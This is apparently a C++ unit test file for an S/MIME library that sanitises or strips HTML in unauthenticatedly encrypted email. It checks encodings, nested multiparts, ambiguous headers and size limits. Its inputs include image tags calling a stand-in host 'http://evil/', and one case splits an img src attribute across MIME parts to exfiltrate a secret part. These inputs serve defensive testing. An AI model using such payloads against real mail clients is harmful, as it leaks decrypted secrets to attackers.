#include "smime/unauthenticated_html.hpp"

#include <string>
#include <vector>

#include "smime/base64.hpp"
#include "smime/limits.hpp"
#include "tests/catch.hpp"
#include "tests/smime/samples.hpp"

namespace {

using namespace std::string_literals;
using smime::UnauthenticatedHtml;

smime::Report unauthenticated() {
    smime::Report report;
    report.encryption = smime::Encryption::unauthenticated;
    return report;
}

/// The message as it comes out.
std::string delivered(const std::string& fields, const std::string& body,
                      UnauthenticatedHtml how = UnauthenticatedHtml::strip) {
    auto report = unauthenticated();
    const std::string first = "MIME-Version: 1.0\r\n";
    smime::View view{first + fields + "\r\n", keystore::SecretBytes{samples::octets(body)}, 0,
                     body.size()};
    const auto written = smime::with_harmless_html(std::move(view), how, report);
    REQUIRE(written);
    std::string all = std::string{written->header()} + std::string{written->body()};
    CHECK(written->header().ends_with("\r\n\r\n"));
    CHECK(all.starts_with(first));
    return all.substr(first.size());
}

std::string base64(const std::string& text) {
    return smime::encode_base64(samples::octets(text));
}

/// What a part with this HTML becomes.
std::string html_part(const std::string& body, const std::string& parameters = "") {
    return "Content-Type: text/html; charset=utf-8" + parameters +
           "\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
           base64("<!DOCTYPE html>\n<html><body>" + body + "</body></html>");
}

std::string text_part(const std::string& text) {
    return "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
           base64(text);
}

const std::string html = "Content-Type: text/html\r\n";
const std::string image = "<img src=http://evil/>x";

/// A multipart with these parts.
std::string parts(const std::vector<std::string>& all) {
    std::string text = "preamble\r\n";
    for (const auto& part : all) text += "--b\r\n" + part + "\r\n";
    return text + "--b--\r\nepilogue\r\n";
}
const std::string mixed = "Content-Type: multipart/mixed; boundary=b\r\n";

}  // namespace

TEST_CASE("HTML is written anew whatever its encoding, charset and name (ENC-05)",
          "[smime][unauthenticated]") {
    CHECK(delivered(html, image) == html_part("x"));
    CHECK(delivered(html + "Content-Transfer-Encoding: base64\r\n", base64(image)) ==
          html_part("x"));
    CHECK(delivered(html + "Content-Transfer-Encoding: Quoted-Printable\r\n",
                    "<img =\r\nsrc=3Dhttp://evil/>=78") == html_part("x"));
    CHECK(delivered("Content-Type: text/html; charset=utf-7\r\n",
                    "+ADw-img src=http://evil/+AD4-x") == html_part("x"));
    CHECK(delivered("Content-Type: text/html; charset=utf-16be\r\n", "\0<\0b\0>\0x"s) ==
          html_part("<b>x</b>"));
    CHECK(delivered(html, "<meta charset=koi8-r>\xc8") == html_part("\xd1\x85"));
    CHECK(delivered(html, "") == html_part(""));
    for (const std::string type :
         {"text/html; charset=us-ascii", "TEXT/HTML", "text/x-html", "application/xhtml+xml",
          "application/html", "text/html(x)", "\"text/html\"", "text/ html", "text/html/x", "html",
          "text/vnd.x-html; x", "text/html charset=utf-8", "(x) text/html", "text/html;;;"}) {
        INFO(type);
        CHECK(delivered("Content-Type: " + type + "\r\n", image) == html_part("x"));
    }
    CHECK(delivered("content-type:\r\n text/html;\r\n name=\"a b.html\"\r\nContent-ID: <1>\r\n"
                    "Content-Disposition: attachment; filename=x.html\r\nContent-MD5: x\r\n"
                    "Content-Location: http://evil/\r\nContent-Base: http://evil/\r\n",
                    image) ==
          "Content-ID: <1>\r\nContent-Disposition: attachment; filename=x.html\r\n" +
              html_part("x", ";\r\n name=\"a b.html\""));
}

TEST_CASE("HTML is found wherever it stands, and all else stays", "[smime][unauthenticated]") {
    const std::string plain = "Content-Type: text/plain\r\n\r\n<img src=http://evil/>";
    const std::string file =
        "Content-Type: application/octet-stream; name=a.html\r\n"
        "Content-Disposition: attachment\r\n\r\n<img src=http://evil/>";
    const std::string none = "\r\n<img src=http://evil/>";
    const auto part = html + "\r\n" + image;
    CHECK(delivered(mixed, parts({plain, part, file, none})) ==
          mixed + "\r\n" + parts({plain, html_part("x"), file, none}));
    CHECK(delivered(mixed, parts({part, part})) ==
          mixed + "\r\n" + parts({html_part("x"), html_part("x")}));

    const auto nested = [](const std::string& type, const std::string& inner) {
        return "Content-Type: multipart/" + type + "; boundary=c\r\n\r\n--c\r\n" + inner +
               "\r\n--c--\r\n";
    };
    for (const std::string type : {"alternative", "related", "signed", "report", "unheard-of"})
        CHECK(delivered(mixed, parts({nested(type, part), plain})) ==
              mixed + "\r\n" + parts({nested(type, html_part("x")), plain}));
    const auto message = [](const std::string& inner) {
        return "Content-Type: message/rfc822\r\n\r\nFrom: a\r\nSubject: b\r\n" + inner;
    };
    CHECK(delivered(mixed, parts({message(part)})) ==
          mixed + "\r\n" + parts({message(html_part("x"))}));
    const std::string digest = "Content-Type: multipart/digest; boundary=b\r\n";
    CHECK(delivered(digest, parts({"\r\n" + part})) ==
          digest + "\r\n" + parts({"\r\n" + html_part("x")}));

    for (const std::string& same : {parts({plain, file, none, nested("mixed", plain)}),
                                    parts({message("\r\n<html>")}), parts({})})
        if (same != parts({})) CHECK(delivered(mixed, same) == mixed + "\r\n" + same);
    for (const std::string type :
         {"text/plain", "text/csv", "application/pdf", "image/png", "application/octet-stream",
          "message/delivery-status", "message/disposition-notification", "text", "text/enriched"})
        CHECK(delivered("Content-Type: " + type + "\r\n", image) ==
              "Content-Type: " + type + "\r\n\r\n" + image);
    CHECK(delivered("", "<html>" + image) == "\r\n<html>" + image);
}

TEST_CASE("a direct exfiltration across parts finds no open attribute",
          "[smime][unauthenticated]") {
    const auto out =
        delivered(mixed, parts({html + "\r\n<img src=\"http://evil/",
                                "Content-Type: text/plain\r\n\r\nsecret", html + "\r\n\">"}));
    CHECK(out == mixed + "\r\n" +
                     parts({html_part(""), "Content-Type: text/plain\r\n\r\nsecret",
                            html_part("&quot;&gt;")}));
}

TEST_CASE("the text alone, if that is asked for", "[smime][unauthenticated]") {
    const auto text = [](const std::string& fields, const std::string& body) {
        return delivered(fields, body, UnauthenticatedHtml::text);
    };
    CHECK(text(html, "<p>a<p>b" + image) == text_part("a\r\n\r\nbx\r\n"));
    CHECK(text(mixed, parts({html + "\r\n" + image})) ==
          mixed + "\r\n" + parts({text_part("x\r\n")}));
    CHECK(text("Content-Type: text/plain\r\n", image) ==
          "Content-Type: text/plain\r\n\r\n" + image);
}

TEST_CASE("HTML stays if it is to be kept, or its encryption is authenticated",
          "[smime][unauthenticated]") {
    CHECK(delivered(html, image, UnauthenticatedHtml::keep) == html + "\r\n" + image);
    for (const auto encryption : {smime::Encryption::none, smime::Encryption::authenticated,
                                  smime::Encryption::unauthenticated, smime::Encryption::legacy}) {
        smime::Report report;
        report.encryption = encryption;
        CHECK(smime::is_unauthenticated(report) ==
              (encryption >= smime::Encryption::unauthenticated));
        report.signed_as_a_whole = true;
        CHECK(!smime::is_unauthenticated(report));
    }
}

TEST_CASE("documents that are no HTML, and messages from elsewhere, are called text",
          "[smime][unauthenticated]") {
    const auto as_text = [](const std::string& fields) {
        return delivered(fields, "<svg/>") ==
               "Content-Type: text/plain;\r\n charset=\"utf-8\"\r\n\r\n<svg/>";
    };
    for (const std::string type :
         {"image/svg+xml", "image/svg", "text/xml", "application/xml", "text/xsl",
          "application/rss+xml", "application/mathml+xml; x=y", "message/partial; id=x; number=1",
          "message/external-body; access-type=URL; URL=\"http://evil/\"", "message/global",
          "message/news", "message/x"}) {
        INFO(type);
        CHECK(as_text("Content-Type: " + type + "\r\n"));
    }
    // An invoice that is an attachment stays what it is; a picture is shown even so.
    const std::string attached = "Content-Disposition: attachment; filename=x\r\n";
    const std::string xml = "Content-Type: application/xml\r\n" + attached;
    CHECK(delivered(xml, "<x/>") == xml + "\r\n<x/>");
    CHECK(delivered("Content-Type: image/svg+xml; charset=koi8-r\r\n" + attached +
                        "Content-Transfer-Encoding: base64\r\n",
                    "PHg+") == attached +
                                   "Content-Type: text/plain;\r\n charset=\"koi8-r\"\r\n"
                                   "Content-Transfer-Encoding: base64\r\n\r\nPHg+");
}

TEST_CASE("a part that can be read in two ways is called text", "[smime][unauthenticated]") {
    const std::string text = "Content-Type: text/plain;\r\n charset=\"utf-8\"\r\n";
    const auto inside = [&](const std::string& fields, const std::string& body,
                            const std::string& stay = "") {
        INFO(fields + "|" + body);
        CHECK(delivered(mixed, parts({fields + "\r\n" + body, "\r\nplain"})) ==
              mixed + "\r\n" + parts({stay + text + "\r\n" + body, "\r\nplain"}));
    };
    inside("Content-Type: text/plain\r\nContent-Type: text/html\r\n", image);
    inside("Content-Type: text/html\r\nContent-Type: text/plain\r\n", image);
    inside("Content-Type: text/plain\r\nX: y\rContent-Type: text/html\r\n", image);
    inside("Content-Type: text/plain\r\nContent-Type\0: text/html\r\n"s, image);
    inside("Content-Type: text/plain\r\nContent-Type\xa0: text/html\r\n", image);
    inside("Content-Type: text/plain\r\nSubject: x\r\nContent-\r\n Type: text/html\r\n", image,
           "Subject: x\r\n");
    const std::string multipart = "Content-Type: multipart/mixed; boundary=c\r\n";
    const std::string two = "--c\r\n" + html + "\r\n" + image + "\r\n--c--";
    inside("Content-Type: multipart/mixed\r\n", two);
    inside("Content-Type: multipart/mixed; boundary=d\r\n", two);
    inside("Content-Type: multipart/mixed; boundary=c; boundary=d\r\n", two);
    inside(multipart, "--c\r\n\r\nx\r\n--cd\r\n\r\ny\r\n--c--");
    inside(multipart, "--c\r\n\r\nx\r\n--c--d");
    inside(multipart, "--cd\r\n\r\nx\r\n--c--");
    inside(multipart + "Content-Type: text/html\r\n", two);
    CHECK(
        delivered(mixed, parts({multipart + "Content-Transfer-Encoding: base64\r\n\r\n" + two})) ==
        mixed + "\r\n" + parts({text + "Content-Transfer-Encoding: base64\r\n\r\n" + two}));
    CHECK(
        delivered(mixed, parts({"Content-Type: message/rfc822\r\nContent-Transfer-Encoding: base64"
                                "\r\n\r\nx"})) ==
        mixed + "\r\n" + parts({text + "Content-Transfer-Encoding: base64\r\n\r\nx"}));
    // Blanks behind a boundary line are nothing.
    const std::string blanks = "--c \t\r\n\r\nx\r\n--c-- \r\n\r\n";
    CHECK(delivered(multipart, blanks) == multipart + "\r\n" + blanks);
    // And what is behind goes on as before.
    CHECK(
        delivered(mixed, parts({multipart + "\r\n--cd\r\n\r\n--c--\r\n", html + "\r\n" + image})) ==
        mixed + "\r\n" + parts({text + "\r\n--cd\r\n\r\n--c--\r\n", html_part("x")}));
}

TEST_CASE("what is nested too deep to be looked into is called text, too many parts stay closed",
          "[smime][unauthenticated]") {
    std::string deep;
    std::string fields = mixed;
    for (int i = 0; i < smime::limits::mime_depth + 2; ++i) {
        const auto boundary = "b" + std::to_string(i) + "x";
        fields = "Content-Type: multipart/mixed; boundary=" + boundary + "\r\n";
        if (i == 0)
            deep = fields + "\r\n--" + boundary + "\r\n" + html + "\r\n" + image + "\r\n--" +
                   boundary + "--";
        else
            deep = fields + "\r\n--" + boundary + "\r\n" + deep + "\r\n--" + boundary + "--";
    }
    const auto out = delivered(fields, deep.substr(deep.find("\r\n\r\n") + 4));
    // The multipart at the limit and all in it.
    CHECK(out.find("--b3x\r\nContent-Type: text/plain;\r\n charset=\"utf-8\"\r\n\r\n--b2x\r\n") !=
          std::string::npos);

    std::string many;
    for (std::size_t i = 0; i < smime::limits::mime_parts; ++i) many += "--b\r\n\r\nx\r\n";
    auto report = unauthenticated();
    smime::View view{mixed + "\r\n", keystore::SecretBytes{samples::octets(many)}, 0, many.size()};
    const auto closed =
        smime::with_harmless_html(std::move(view), UnauthenticatedHtml::strip, report);
    CHECK((!closed && closed.error() == smime::Error::too_complex));
    CHECK(report.html.empty());
}

TEST_CASE("HTML beyond the limits comes as text", "[smime][unauthenticated]") {
    std::string many;
    for (std::size_t i = 0; i <= smime::limits::html_tags; ++i) many += "<b>";
    CHECK(delivered(html, many + image) == text_part("x\r\n"));
    // They hold for all parts of a message together.
    const std::string half = many.substr(0, smime::limits::html_tags / 2 * 3);
    const auto out = delivered(
        mixed, parts({html + "\r\n" + half + "</b>1", html + "\r\n" + half + "2", html + "\r\n3"}));
    CHECK(out.find(text_part("2\r\n")) != std::string::npos);
    CHECK(out.find("Content-Type: text/html") != std::string::npos);
    // A part that would take memory many times its size is not read at all.
    const std::string huge(smime::limits::html_part + 1, '<');
    const auto whole = delivered(html, huge);
    CHECK(whole.find("Content-Type: text/plain") < 200);
    CHECK(whole.find("text/html") == std::string::npos);
    CHECK(whole.ends_with(huge));
}
